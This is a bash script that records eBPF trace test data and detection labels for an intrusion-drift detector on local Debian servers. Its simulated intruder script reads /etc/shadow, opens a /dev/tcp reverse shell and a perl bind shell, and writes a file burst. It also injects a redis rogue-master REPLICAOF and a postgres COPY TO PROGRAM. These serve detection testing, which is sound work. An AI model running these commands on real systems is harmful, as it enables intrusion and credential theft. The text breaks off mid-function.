#!/usr/bin/env bash
# tools/scripts/record-testdata.sh: records testdata/<server>/{train,normal,drift,heldout}.dwt and
# drift.labels.json from real Debian workloads for
# `driftwatch eval`: servers (nginx, redis, postgresql, haproxy, a Flask app under gunicorn)
# and a cron-driven batch job (batch).
#
#   bash tools/scripts/record-testdata.sh [--only PHASE[,PHASE...]] [WORKLOAD...]    (root)
#
# WORKLOAD: nginx redis postgresql haproxy gunicorn batch (default: all); PHASE: train normal
# drift heldout (default: all four, in that order). `--only heldout nginx` records only
# nginx's held-out trace, leaving its other traces as they are.
#
# Each server runs from its own config and data under /srv/dw-eval/<server> (removed at the
# end), as its Debian service user, listening on 127.0.0.1 only, in its own cgroup
# dw-eval/<server> (so its workload is "dw-eval/<server>"). Load generators run outside the
# cgroup, so the traces hold only the server's behaviour. Per server (record_server):
#   train   $TRAIN_SECONDS (default 360: rate baselines need 30 buckets of 10 s): the server
#           starts inside the recording, serves traffic mix A, restarts halfway, and stops;
#   normal  the server is already running, serves traffic mix B (other URLs, keys, queries and
#           client counts), restarts in the middle, serves more of mix B;
#   drift   the server serves mix A; in the middle, something inside its cgroup does what an
#           intruder would (<server>_inject); drift.labels.json lists what was injected;
#   heldout $HELDOUT_SECONDS (default 60), its own run after the others, from a fresh
#           provisioning (a redeploy): the normal variation a production service shows and
#           training never did (<server>_heldout_*: content, keyspaces or databases never
#           used, clients from other loopback addresses, log rotation, scheduled jobs with
#           other arguments, more load) and a restart. No attack. These traces are held out:
#           the engine's rules and thresholds are never chosen by looking at them.
# Installs the packages with services kept from starting, and stops and disables any service
# the installation started. Every process and cgroup it creates is removed on exit.
set -euo pipefail
cd "$(dirname "$0")/../.."
ROOT=$(pwd)
BUILD_DIR=${BUILD_DIR:-build}
DW=$ROOT/$BUILD_DIR/tools/driftwatch
WORKLOAD_BIN=$ROOT/$BUILD_DIR/tools/dw_test_workload
ALL_SERVERS=(nginx redis postgresql haproxy gunicorn batch)
SERVERS=()
PHASES=(train normal drift heldout)
while [ $# -gt 0 ]; do
  case $1 in
    --only)
      [ $# -ge 2 ] || { echo "record-testdata: --only needs a phase list" >&2; exit 1; }
      IFS=, read -ra PHASES <<<"$2"
      shift 2 ;;
    --only=*) IFS=, read -ra PHASES <<<"${1#--only=}"; shift ;;
    -*) echo "record-testdata: unknown option '$1'" >&2; exit 1 ;;
    *) SERVERS+=("$1"); shift ;;
  esac
done
[ ${#SERVERS[@]} -gt 0 ] || SERVERS=("${ALL_SERVERS[@]}")

# Fixed paths and ports: the three traces of a server must agree on them, and the labels
# name them.
WORK=/srv/dw-eval
CG_BASE=dw-eval
SYS_PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
PG_BIN=/usr/lib/postgresql/15/bin
NGINX_PORT=18080
REDIS_PORT=16379
PG_PORT=15432
C2_PORT=14444        # the intruder's reverse-shell peer (outside the cgroup)
BIND_PORT=14445      # the intruder's bind-shell listener (inside the cgroup)
ROGUE_PORT=16380     # a rogue redis master (outside the cgroup)
HAPROXY_PORT=18480   # haproxy's frontend
HAPROXY_STATS_PORT=18481
BACKEND_PORTS=(18091 18092 18093)   # haproxy's backends (python3 http.server, outside the cgroup)
GUNICORN_PORT=18000
PG_RELAY_PORT=15433  # a relay that gives PostgreSQL clients other source addresses
DROPPER=/tmp/.dw-eval-update   # what an intruder downloads into /tmp and runs
BURST_FILES=300
TRAIN_SECONDS=${TRAIN_SECONDS:-360}
NORMAL_SECONDS=${NORMAL_SECONDS:-50}   # both halves together
MAINT_SECONDS=${MAINT_SECONDS:-45}    # how often a server's scheduled job runs in training
DRIFT_SECONDS=${DRIFT_SECONDS:-40}     # the intrusion comes at 15 s
HELDOUT_SECONDS=${HELDOUT_SECONDS:-60} # both halves together
HELDOUT_MAINT_SECONDS=${HELDOUT_MAINT_SECONDS:-20}

die() { echo "record-testdata: $*" >&2; exit 1; }
say() { printf '\n== %s\n' "$*" >&2; }

[ "$(id -u)" -eq 0 ] || die "needs root (eBPF, cgroups, service users)"
CG_MOUNT=$(awk '$9 == "cgroup2" { print $5; exit }' /proc/self/mountinfo)
[ -n "$CG_MOUNT" ] || die "no cgroup2 mount in /proc/self/mountinfo"
for s in "${SERVERS[@]}"; do
  case " ${ALL_SERVERS[*]} " in *" $s "*) ;; *) die "unknown workload '$s' (${ALL_SERVERS[*]})" ;; esac
done
[ ${#PHASES[@]} -gt 0 ] || die "--only needs a phase list"
for ph in "${PHASES[@]}"; do
  case $ph in train | normal | drift | heldout) ;; *) die "unknown phase '$ph' (train normal drift heldout)" ;; esac
done
want_phase() { case " ${PHASES[*]} " in *" $1 "*) return 0 ;; esac; return 1; }

PIDS=()         # every background process started here, killed by id on exit
POLICY_RC_CREATED=0

# What the intruders leave outside $WORK: crontabs of the service users, the dropper.
remove_intruder_leftovers() {
  local u
  for u in www-data backup; do
    if [ -e "/var/spool/cron/crontabs/$u" ]; then crontab -r -u "$u" 2>/dev/null || true; fi
  done
  rm -f "$DROPPER"
}

cleanup() {
  set +e
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null; done
  if [ -d "$CG_MOUNT/$CG_BASE" ]; then
    # Anything still in our cgroups was started by this script (a server's children).
    for f in "$CG_MOUNT/$CG_BASE"/*/cgroup.procs; do
      [ -f "$f" ] || continue
      while read -r p; do kill -KILL "$p" 2>/dev/null; done <"$f"
    done
    sleep 0.2
    rmdir "$CG_MOUNT/$CG_BASE"/* "$CG_MOUNT/$CG_BASE" 2>/dev/null
  fi
  [ "$POLICY_RC_CREATED" = 1 ] && rm -f /usr/sbin/policy-rc.d
  remove_intruder_leftovers
  rm -rf "$WORK"
}
trap cleanup EXIT

# --- installation -------------------------------------------------------------------------

install_packages() {
  local pkgs=(nginx-light redis-server redis-tools postgresql postgresql-client curl perl
              apache2-utils haproxy gunicorn python3-flask socat cron gzip)
  local fresh=()
  for p in nginx-light redis-server postgresql haproxy cron; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q "install ok installed" || fresh+=("$p")
  done
  # Debian starts services from maintainer scripts unless policy-rc.d says no.
  if [ ! -e /usr/sbin/policy-rc.d ]; then
    printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
    chmod +x /usr/sbin/policy-rc.d
    POLICY_RC_CREATED=1
  fi
  if ! DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" \
      >/dev/null; then
    apt-get update >/dev/null
    DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends "${pkgs[@]}" >/dev/null
  fi
  # Leave no system service running, and none enabled that this script installed.
  local svc
  for p in "${fresh[@]:-}"; do
    case $p in
      nginx-light) svc=nginx ;; redis-server) svc=redis-server ;; postgresql) svc=postgresql ;;
      haproxy) svc=haproxy ;; cron) svc=cron ;;
      *) continue ;;
    esac
    service "$svc" stop >/dev/null 2>&1 || true
    update-rc.d "$svc" disable >/dev/null 2>&1 || true
    if [ "$p" = postgresql ]; then pg_ctlcluster 15 main stop >/dev/null 2>&1 || true; fi
  done
}

# --- processes in cgroups -----------------------------------------------------------------

# launch SERVER USER CMD...: runs CMD as USER (with a clean environment) in the cgroup
# dw-eval/SERVER, in the background; its pid is in LAUNCHED. The process joins the cgroup
# before it execs setpriv, so the exec chain setpriv -> CMD is inside the cgroup, as a service
# manager would start it.
# USER may also be UID:GID, the credentials a server process that dropped its privileges
# itself has (no name lookups, no supplementary groups).
launch() {
  local server=$1 user=$2 creds
  shift 2
  case $user in
    *:*) creds=(--reuid="${user%%:*}" --regid="${user#*:}" --clear-groups) ;;
    *) creds=(--reuid="$user" --regid="$user" --init-groups) ;;
  esac
  env -i PATH="$SYS_PATH" HOME=/nonexistent LANG=C.UTF-8 \
    sh -c 'cg=$1; shift; echo $$ >"$cg/cgroup.procs" && cd / && exec setpriv "$@"' \
    sh "$CG_MOUNT/$CG_BASE/$server" "${creds[@]}" "$@" </dev/null >>"$WORK/$server.out" 2>&1 &
  LAUNCHED=$!
  PIDS+=("$LAUNCHED")
}

# forget PID: PID was waited for; never signal it again (its number may be reused).
forget() {
  local kept=() p
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && [ "$p" != "$1" ] && kept+=("$p"); done
  PIDS=("${kept[@]:-}")
}

# Waits for a live driftwatch command's "ready" line in log file $1.
wait_ready() {
  for _ in $(seq 1 150); do grep -q "ready" "$1" 2>/dev/null && return 0; sleep 0.1; done
  cat "$1" >&2
  return 1
}

# until_ok CMD...: retries CMD for up to 15 s.
until_ok() {
  for _ in $(seq 1 150); do "$@" >/dev/null 2>&1 && return 0; sleep 0.1; done
  die "timed out waiting for: $*"
}

REC_PID=
REC_OUT=
REC_TMP=
# rec_start SERVER KIND: records testdata/SERVER/KIND.dwt from cgroup dw-eval/SERVER (the
# trace is moved there by rec_stop, so a failed run leaves the old one in place).
rec_start() {
  mkdir -p "testdata/$1"
  REC_OUT=testdata/$1/$2.dwt
  REC_TMP=$WORK/$1-$2.dwt
  # --syscalls: the traces also carry each syscall's first use, for the seccomp export.
  "$DW" record --out "$REC_TMP" --cgroup "$CG_BASE/$1" --syscalls \
    --duration $((TRAIN_SECONDS + 600)) \
    2>"$WORK/record-$1-$2.log" &
  REC_PID=$!
  PIDS+=("$REC_PID")
  wait_ready "$WORK/record-$1-$2.log" || die "driftwatch record did not start"
}
rec_stop() {
  sleep 1
  kill -INT "$REC_PID"
  wait "$REC_PID" || { cat "$WORK"/record-*.log >&2; die "driftwatch record failed"; }
  forget "$REC_PID"
  mv "$REC_TMP" "$REC_OUT"
  tail -n 1 "$WORK"/record-*.log | grep recorded >&2 || true
  rm -f "$WORK"/record-*.log
}

# stop_pid PID SIGNAL: stops a server the way its init script would and waits for it.
stop_pid() {
  kill "-$2" "$1" 2>/dev/null || true
  wait "$1" 2>/dev/null || true
  forget "$1"
}

# A peer outside the cgroup that accepts and closes connections (the intruder's side).
start_peer() {
  "$WORKLOAD_BIN" --serve-forever "$1" &
  PIDS+=($!)
}

# The intruder's script, run as the server's user inside its cgroup: look around, try the
# credential file, call home, open a bind shell, write many files into the data dir $1.
intruder_script() {
  cat <<SH
cd $1
id >/dev/null
uname -a >/dev/null
read -r line </etc/shadow || true
bash -c 'exec 3<>/dev/tcp/127.0.0.1/$C2_PORT && echo hello >&3' || true
perl -MIO::Socket::INET -e 'IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $BIND_PORT, Listen => 1, ReuseAddr => 1) or die; sleep 1' || true
i=0
while [ \$i -lt $BURST_FILES ]; do echo "\$i" >"burst-\$i.enc"; i=\$((i + 1)); done
SH
}

# inject_shell SERVER USER DATA_DIR [MORE_SCRIPT]: the intruder's script (and MORE_SCRIPT, the
# workload's further techniques) run by /bin/sh as USER inside the server's cgroup (an
# exploited server process executing a shell).
inject_shell() {
  launch "$1" "$2" /bin/sh -c "$(intruder_script "$3")
${4:-}"
  wait "$LAUNCHED" || true
  forget "$LAUNCHED"
}

# write_labels SERVER DATA_DIR [EXTRA_JSON_OBJECTS] [SHELL_KNOWN]: drift.labels.json from what
# inject_shell does (and the server-specific extras). With SHELL_KNOWN set, the workload
# itself runs /bin/sh in training, so the intruder's shell is not a required label. Labels with "required": false are consequences of
# the injection (what the intruder's tools load and open); a finding matching one is not a
# false positive, and missing one is not a miss.
write_labels() {
  local extra=${3:-} shell_required=""
  [ -n "${4:-}" ] && shell_required='"required": false, '
  # Exec events name the binary the kernel ran: /bin/sh resolves to dash on Debian.
  local SHELL_NAME
  SHELL_NAME=$(basename "$(readlink -f /bin/sh)")
  cat >"testdata/$1/drift.labels.json" <<JSON
[
  {"kind": "exec", "subject": "*/$SHELL_NAME", $shell_required"what": "a shell spawned inside the server's cgroup (/bin/sh, that is $SHELL_NAME)"},
  {"kind": "exec", "subject": "*/id", "what": "the intruder runs id"},
  {"kind": "exec", "subject": "*/uname", "what": "the intruder runs uname -a"},
  {"kind": "file", "subject": "/etc/shadow", "what": "the intruder tries to read the password hashes"},
  {"kind": "exec", "subject": "*/bash", "what": "bash started for a /dev/tcp reverse shell"},
  {"kind": "network", "subject": "127.0.0.1:$C2_PORT", "what": "reverse shell connects to a new peer"},
  {"kind": "exec", "subject": "*/perl", "what": "perl started for a bind shell"},
  {"kind": "network", "subject": "listen 127.0.0.1:$BIND_PORT", "what": "bind shell listens on a new port"},
  {"kind": "file", "subject": "$2/burst-*.enc", "what": "$BURST_FILES new files written into the data dir"},
  {"kind": "rate", "subject": "*", "what": "write burst: $BURST_FILES file creations in well under a second"},
  {"kind": "syscall", "subject": "*", "what": "syscalls the intruder's tools (and the rogue master's replication) make that the server never made"},
  {"kind": "file", "subject": "/dev/null", "required": false, "what": "the intruder's shell redirects output"},
  {"kind": "file", "subject": "/dev/tty", "required": false, "what": "bash probes its terminal"},
  {"kind": "file", "subject": "/dev/urandom", "required": false, "what": "perl seeds its hash randomisation"},
  {"kind": "file", "subject": "/proc/filesystems", "required": false, "what": "id (libselinux) checks for selinuxfs"},
  {"kind": "file", "subject": "/usr/share/locale/*", "required": false, "what": "coreutils look for message catalogs"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libselinux.so*", "required": false, "what": "library loaded by id"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libpcre2-8.so*", "required": false, "what": "library loaded by id"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libtinfo.so*", "required": false, "what": "library loaded by bash"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/libcrypt.so*", "required": false, "what": "library loaded by perl"},
  {"kind": "file", "subject": "/usr/lib/x86_64-linux-gnu/perl-base/*", "required": false, "what": "perl modules loaded by the bind shell"}$extra
]
JSON
}

# --- nginx --------------------------------------------------------------------------------

NGINX_DIR=$WORK/nginx
NGINX_HTML=$NGINX_DIR/html

nginx_provision() {
  rm -rf "$NGINX_DIR"
  mkdir -p "$NGINX_DIR"/{conf,log,run,tmp} "$NGINX_HTML"/{css,js,img,uploads}
  echo "<html><body>home</body></html>" >"$NGINX_HTML/index.html"
  for i in $(seq -w 1 40); do echo "<html><body>page $i</body></html>" >"$NGINX_HTML/page$i.html"; done
  for i in $(seq 1 20); do head -c 2048 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
  echo "body { color: #333 }" >"$NGINX_HTML/css/site.css"
  echo "console.log('app')" >"$NGINX_HTML/js/app.js"
  chown -R www-data:www-data "$NGINX_DIR"/{log,run,tmp} "$NGINX_HTML/uploads"
  cat >"$NGINX_DIR/conf/nginx.conf" <<CONF
worker_processes 2;
pid $NGINX_DIR/run/nginx.pid;
error_log $NGINX_DIR/log/error.log;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  default_type application/octet-stream;
  access_log $NGINX_DIR/log/access.log;
  client_body_temp_path $NGINX_DIR/tmp/body;
  proxy_temp_path $NGINX_DIR/tmp/proxy;
  fastcgi_temp_path $NGINX_DIR/tmp/fastcgi;
  uwsgi_temp_path $NGINX_DIR/tmp/uwsgi;
  scgi_temp_path $NGINX_DIR/tmp/scgi;
  keepalive_timeout 5;
  server {
    listen 127.0.0.1:$NGINX_PORT;
    root $NGINX_HTML;
    index index.html;
    location / { try_files \$uri \$uri/ =404; }
    location /api/ { default_type application/json; return 200 '{"ok":true}'; }
  }
}
CONF
}

NGINX_PID=
nginx_start() {
  launch nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" \
    -g "daemon off;"
  NGINX_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/index.html"
}
nginx_stop() { stop_pid "$NGINX_PID" QUIT; }

# get CONCURRENCY PATH...: GETs the paths over CONCURRENCY keep-alive clients, 10 per client.
nginx_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$NGINX_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}

# Mix A: the home page, pages 01-20, the assets, images 1-10, a health check, a few scanners.
nginx_mix_a() {
  local paths=(/ /index.html /css/site.css /js/app.js /api/health /wp-login.php /.env)
  for i in $(seq -w 1 20); do paths+=("/page$i.html"); done
  for i in $(seq 1 10); do paths+=("/img/$i.png"); done
  nginx_get 3 "${paths[@]}" "${paths[@]}"
}
# Mix B: more pages (21-30 were never requested in mix A), more images, HEAD requests, other
# API calls and scanner paths, one client and then eight.
nginx_mix_b() {
  local paths=(/ /css/site.css /js/app.js /api/status /api/v1/items /admin.php /.git/config)
  for i in $(seq -w 5 30); do paths+=("/page$i.html"); done
  for i in $(seq 1 15); do paths+=("/img/$i.png"); done
  nginx_get 1 "${paths[@]}"
  nginx_get 8 "${paths[@]}" "${paths[@]}"
  curl -s -I "http://127.0.0.1:$NGINX_PORT/page07.html" "http://127.0.0.1:$NGINX_PORT/" >/dev/null
}

# A web shell or an exploited worker: the intruder's script as www-data, writing into the
# upload directory.
nginx_inject() { inject_shell nginx www-data "$NGINX_HTML/uploads"; }
nginx_labels() { write_labels nginx "$NGINX_HTML/uploads"; }

# Held out. A content deploy adds pages 41-60, images 21-30 and new css/js next to the ones
# training saw; clients come from 127.0.0.2-20 and request pages 25-60 (31-60 never
# requested before), images 5-30, the new assets and other missing paths, 12 at a time; the
# logs are rotated as logrotate does (rename, then USR1 to reopen them).
nginx_heldout_deploy() {
  for i in $(seq 41 60); do echo "<html><body>page $i (new)</body></html>" >"$NGINX_HTML/page$i.html"; done
  for i in $(seq 21 30); do head -c 3072 /dev/urandom >"$NGINX_HTML/img/$i.png"; done
  echo "@media print { body { color: #000 } }" >"$NGINX_HTML/css/print.css"
  echo "console.log('vendor')" >"$NGINX_HTML/js/vendor.js"
}
nginx_heldout_mix() {
  local paths=(/ /index.html /css/site.css /css/print.css /js/app.js /js/vendor.js /api/health
               /api/v2/orders /robots.txt /favicon.ico /xmlrpc.php)
  for i in $(seq 25 60); do paths+=("/page$i.html"); done
  for i in $(seq 5 30); do paths+=("/img/$i.png"); done
  local n=0 p
  for p in "${paths[@]}" "${paths[@]}"; do
    echo "$((2 + n % 19)) http://127.0.0.1:$NGINX_PORT$p"
    n=$((n + 1))
  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
}
nginx_heldout_rotate() {
  local f
  for f in access error; do
    [ -e "$NGINX_DIR/log/$f.log.1" ] && mv "$NGINX_DIR/log/$f.log.1" "$NGINX_DIR/log/$f.log.2"
    mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log.1"
  done
  kill -USR1 "$(cat "$NGINX_DIR/run/nginx.pid")"
}
nginx_heldout_job() { nginx_heldout_rotate; }


# --- redis --------------------------------------------------------------------------------

REDIS_DIR=$WORK/redis
REDIS_DATA=$REDIS_DIR/data

redis_provision() {
  rm -rf "$REDIS_DIR"
  mkdir -p "$REDIS_DATA" "$REDIS_DIR/run" "$REDIS_DIR/log"
  cat >"$REDIS_DIR/redis.conf" <<CONF
bind 127.0.0.1
port $REDIS_PORT
protected-mode yes
daemonize no
supervised no
pidfile $REDIS_DIR/run/redis.pid
logfile $REDIS_DIR/log/redis.log
dir $REDIS_DATA
dbfilename dump.rdb
save 2 1
appendonly yes
appendfsync everysec
CONF
  chown -R redis:redis "$REDIS_DIR"
  # A service that has run before: data and the append-only files exist.
  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
  local pid=$LAUNCHED
  until_ok redis_ping
  redis-benchmark -p "$REDIS_PORT" -q -n 2000 -c 2 -r 1000 -t set,lpush >/dev/null
  stop_pid "$pid" TERM
}

redis_ping() { [ "$(redis-cli -p "$REDIS_PORT" ping 2>/dev/null)" = PONG ]; }
REDIS_PID=
redis_start() {
  launch redis redis /usr/bin/redis-server "$REDIS_DIR/redis.conf"
  REDIS_PID=$LAUNCHED
  until_ok redis_ping
}
redis_stop() { stop_pid "$REDIS_PID" TERM; }

# Mix A: strings, counters and lists over 1000 keys, four clients.
redis_mix_a() {
  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 4 -r 1000 -t set,get,incr,lpush,lpop >/dev/null
  redis-cli -p "$REDIS_PORT" get key:000000000001 >/dev/null
}
# Mix B: hashes, sets, sorted sets, MSET and ranges over 50000 keys, sixteen clients, and the
# inspection commands an operator runs.
redis_mix_b() {
  redis-benchmark -p "$REDIS_PORT" -q -n 4000 -c 16 -r 50000 -t hset,sadd,zadd,mset,lrange_100 >/dev/null
  redis-cli -p "$REDIS_PORT" info >/dev/null
  redis-cli -p "$REDIS_PORT" dbsize >/dev/null
  redis-cli -p "$REDIS_PORT" --scan --pattern 'key:*' >/dev/null
}

# Scheduled jobs: rewrite the append-only file, as redis does by itself when the file has
# doubled (auto-aof-rewrite-percentage) and operators schedule on quiet hours; and the
# monitoring scrape (INFO) every exporter of redis metrics makes.
redis_maintenance() {
  redis-cli -p "$REDIS_PORT" bgrewriteaof >/dev/null
  redis-cli -p "$REDIS_PORT" info >/dev/null
}

# The intruder's script as redis in the data directory, then the rogue-master technique:
# make the server replicate from the intruder's host.
redis_inject() {
  start_peer "$ROGUE_PORT"
  inject_shell redis redis "$REDIS_DATA"
  redis-cli -p "$REDIS_PORT" replicaof 127.0.0.1 "$ROGUE_PORT" >/dev/null
  sleep 1.5
  redis-cli -p "$REDIS_PORT" replicaof no one >/dev/null
}
redis_labels() {
  write_labels redis "$REDIS_DATA" ",
  {\"kind\": \"network\", \"subject\": \"127.0.0.1:$ROGUE_PORT\", \"what\": \"REPLICAOF makes redis connect to a rogue master\"}"
}

# redis_from ADDR COMMAND...: inline commands (one per argument) from source address ADDR, as
# an application server on another address would send them.
redis_from() {
  local addr=$1
  shift
  perl -MIO::Socket::INET -e '
    my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => shift, LocalAddr => shift)
      or die "connect: $!";
    for my $c (@ARGV) { print $s "$c\r\n"; my $r = <$s>; $r = <$s> if $r =~ /^\$\d/; }
    print $s "QUIT\r\n";' "$REDIS_PORT" "$addr" "$@"
}
# Held out. Application servers on 127.0.0.2-20 keep sessions in a database (SELECT 3) training never
# used, with expiries; a benchmark of other commands and larger values on 32 clients; the
# scheduled jobs with other arguments (BGSAVE instead of BGREWRITEAOF, INFO sections,
# SLOWLOG, CLIENT LIST, CONFIG GET).
redis_heldout_mix() {
  local i pids=()
  for i in $(seq 2 20); do
    redis_from "127.0.0.$i" "SELECT 3" "SET session:$i:$RANDOM payload-$i" "EXPIRE session:$i:$RANDOM 300" \
      "GET session:$i:1" "HINCRBY stats:$i hits 1" "LPUSH queue:jobs job-$i" "RPOP queue:jobs" &
    pids+=($!)
  done
  wait "${pids[@]}"
  redis-benchmark -p "$REDIS_PORT" -q -n 6000 -c 32 -d 512 -r 100000 -t set,get,incr,hset,rpush,rpop,mset >/dev/null
}
redis_heldout_job() {
  redis-cli -p "$REDIS_PORT" bgsave >/dev/null
  redis-cli -p "$REDIS_PORT" info memory >/dev/null
  redis-cli -p "$REDIS_PORT" info persistence >/dev/null
  redis-cli -p "$REDIS_PORT" slowlog get 10 >/dev/null
  redis-cli -p "$REDIS_PORT" client list >/dev/null
  redis-cli -p "$REDIS_PORT" config get maxmemory >/dev/null
}
# The application servers on other addresses need protected mode off (redis 7 accepts only
# 127.0.0.1 and ::1 without it): the operator changes the file and applies it live.
redis_heldout_deploy() {
  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
  redis-cli -p "$REDIS_PORT" config set protected-mode no >/dev/null
}


# --- postgresql ---------------------------------------------------------------------------

PG_DIR=$WORK/postgresql
PG_DATA=$PG_DIR/data

postgresql_provision() {
  rm -rf "$PG_DIR"
  mkdir -p "$PG_DATA" "$PG_DIR/run" "$PG_DIR/log"
  chown -R postgres:postgres "$PG_DIR"
  (cd / && setpriv --reuid=postgres --regid=postgres --init-groups \
    "$PG_BIN/initdb" -D "$PG_DATA" -U postgres --auth=trust >/dev/null)
  cat >>"$PG_DATA/postgresql.conf" <<CONF
listen_addresses = '127.0.0.1'
port = $PG_PORT
unix_socket_directories = '$PG_DIR/run'
max_connections = 30
shared_buffers = 32MB
work_mem = 1MB
CONF
  cat >"$PG_DIR/aggregate.sql" <<'SQL'
\set lo random(1, 90000)
SELECT count(*), sum(abalance) FROM pgbench_accounts WHERE aid BETWEEN :lo AND :lo + 5000;
SQL
  # A database that has been in use: the pgbench tables exist and are analysed.
  postgresql_launch
  local pid=$LAUNCHED
  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres >/dev/null 2>&1
  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -c "VACUUM ANALYZE" postgres
  stop_pid "$pid" INT
}

PG_PID=
postgresql_launch() {
  launch postgresql postgres "$PG_BIN/postgres" -D "$PG_DATA"
  until_ok "$PG_BIN/pg_isready" -q -h 127.0.0.1 -p "$PG_PORT"
}
postgresql_start() {
  postgresql_launch
  PG_PID=$LAUNCHED
}
postgresql_stop() { stop_pid "$PG_PID" INT; }

PSQL=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null postgres)
PGBENCH=(pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -n postgres)

# A report whose full sort spills to temporary files (work_mem is 1 MB).
postgresql_report() {
  "${PSQL[@]}" -c "SELECT aid, abalance FROM pgbench_accounts ORDER BY abalance DESC, filler OFFSET 99990"
}
# Mix A: TPC-B-like transactions on two clients, read-only on four, one report.
postgresql_mix_a() {
  "${PGBENCH[@]}" -c 2 -T 2 >/dev/null 2>&1
  "${PGBENCH[@]}" -S -c 4 -T 1 >/dev/null 2>&1
  postgresql_report
}
# Mix B: simple updates on six clients, an aggregate script on three, read-only on eight,
# catalog queries, and the report.
postgresql_mix_b() {
  "${PGBENCH[@]}" -N -c 6 -T 1 >/dev/null 2>&1
  "${PGBENCH[@]}" -c 3 -T 1 -f "$PG_DIR/aggregate.sql" >/dev/null 2>&1
  "${PGBENCH[@]}" -S -c 8 -T 1 >/dev/null 2>&1
  "${PSQL[@]}" -c "SELECT relname, n_live_tup FROM pg_stat_user_tables" -c '\dt'
  postgresql_report
}

# A superuser session (SQL injection, stolen credentials) runs the intruder's script through
# the server: postgres itself forks /bin/sh -c in the data directory.
postgresql_inject() {
  "${PSQL[@]}" -c "COPY (SELECT 1) TO PROGRAM \$drift\$$(intruder_script "$PG_DATA")\$drift\$"
}
postgresql_labels() { write_labels postgresql "$PG_DATA"; }

# Held out. A new application database (CREATE DATABASE, its pgbench tables and a table of
# its own with an index) and a new table in the known one; clients through relays (outside
# the cgroup) bound to 127.0.0.5, .9 and .17, as application servers on other addresses
# would connect (pg_hba.conf gets a line for them, reloaded); more clients; the scheduled
# jobs with other arguments: a pg_dump backup, VACUUM ANALYZE of one table, CHECKPOINT.
PSQL_APP=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null app2)
postgresql_heldout_deploy() {
  local a
  for a in 5 9 17; do
    socat "TCP-LISTEN:$((PG_RELAY_PORT + a)),bind=127.0.0.1,reuseaddr,fork" \
      "TCP:127.0.0.1:$PG_PORT,bind=127.0.0.$a" &
    PIDS+=($!)
  done
  # The application servers' addresses are let in (initdb's pg_hba.conf trusts 127.0.0.1/32).
  echo "host all all 127.0.0.0/8 trust" >>"$PG_DATA/pg_hba.conf"
  "${PSQL[@]}" -c "SELECT pg_reload_conf()"
  "${PSQL[@]}" -c "CREATE DATABASE app2"
  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q app2 >/dev/null 2>&1
  "${PSQL_APP[@]}" -c "CREATE TABLE orders (id serial PRIMARY KEY, customer int, total numeric, created timestamptz DEFAULT now())" \
    -c "CREATE INDEX orders_customer ON orders (customer)" \
    -c "INSERT INTO orders (customer, total) SELECT g % 500, g * 1.5 FROM generate_series(1, 20000) g"
  "${PSQL[@]}" -c "CREATE TABLE audit_log (id bigserial PRIMARY KEY, at timestamptz DEFAULT now(), what text)"
}
postgresql_heldout_mix() {
  local a pids=()
  for a in 5 9 17; do
    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + a))" -U postgres -n -c 3 -T 1 app2 >/dev/null 2>&1 &
    pids+=($!)
  done
  wait "${pids[@]}"
  "${PGBENCH[@]}" -c 10 -T 1 >/dev/null 2>&1
  "${PSQL_APP[@]}" -c "INSERT INTO orders (customer, total) SELECT g % 500, g FROM generate_series(1, 500) g" \
    -c "SELECT customer, sum(total) FROM orders GROUP BY customer ORDER BY 2 DESC LIMIT 10"
  "${PSQL[@]}" -c "INSERT INTO audit_log (what) SELECT 'login ' || g FROM generate_series(1, 200) g"
}
postgresql_heldout_job() {
  pg_dump -h 127.0.0.1 -p "$PG_PORT" -U postgres -Fc app2 >/dev/null
  "${PSQL[@]}" -c "VACUUM ANALYZE pgbench_history" -c "CHECKPOINT"
}

# --- haproxy ------------------------------------------------------------------------------

HAPROXY_DIR=$WORK/haproxy
HAPROXY_RUN=$HAPROXY_DIR/run

# A reverse proxy in front of three backends (python3 http.server on 127.0.0.1, outside the
# cgroup: the application tier): two for the site, one for /api/, with health checks; a
# stats page and an admin socket. haproxy starts as root in the master-worker mode Debian's
# unit uses, chroots to an empty directory and runs its worker as haproxy.
haproxy_provision() {
  local b
  for b in 0 1 2; do [ -z "${BACKEND_PIDS[$b]}" ] || haproxy_backend_stop "$b"; done
  rm -rf "$HAPROXY_DIR"
  mkdir -p "$HAPROXY_DIR"/{conf,empty} "$HAPROXY_RUN"
  for b in 0 1 2; do
